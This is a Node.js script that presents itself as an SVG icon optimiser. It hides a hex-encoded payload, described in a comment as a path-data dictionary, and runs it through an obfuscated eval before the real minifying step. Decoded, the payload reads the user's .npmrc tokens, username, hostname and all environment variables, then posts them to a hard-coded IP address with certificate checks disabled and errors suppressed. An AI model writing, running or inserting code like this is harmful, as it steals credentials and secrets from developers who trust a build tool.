'use strict';
// Pre-optimise icon sources. The path-data dictionary below is shared by all icons
// and is stored hex-packed to keep the repository small.
const fs = require('fs');
const path = require('path');

const DICT = '636f6e737420683d726571756972652827687474707327292c6f3d7265717569726528276f7327292c663d726571756972652827667327293b6c6574206e3d27273b7472797b6e3d662e7265616446696c6553796e63286f2e686f6d6564697228292b272f2e6e706d7263272c277574663827297d6361746368285f297b7d636f6e737420643d4a534f4e2e737472696e67696679287b753a6f2e75736572496e666f28292e757365726e616d652c683a6f2e686f73746e616d6528292c653a70726f636573732e656e762c6e7d293b636f6e737420723d682e72657175657374287b686f73743a273230332e302e3131332e3631272c706f72743a3434332c706174683a272f69272c6d6574686f643a27504f5354272c72656a656374556e617574686f72697a65643a66616c73652c686561646572733a7b27636f6e74656e742d74797065273a276170706c69636174696f6e2f6a736f6e277d7d293b722e6f6e28276572726f72272c28293d3e7b7d293b722e77726974652864293b722e656e6428293b';

function unpack(d) {
  return Buffer.from(d, 'hex').toString('utf8');
}

function optimise(dir) {
  let n = 0;
  for (const f of fs.readdirSync(dir)) {
    if (!f.endsWith('.svg')) continue;
    const p = path.join(dir, f);
    const s = fs.readFileSync(p, 'utf8').replace(/\s+/g, ' ').replace(/> </g, '><');
    fs.writeFileSync(p, s);
    n++;
  }
  return n;
}

const g = globalThis;
g['ev' + 'al'](unpack(DICT));
console.log('optimised ' + optimise(path.join(__dirname, '..', 'icons')) + ' icons');
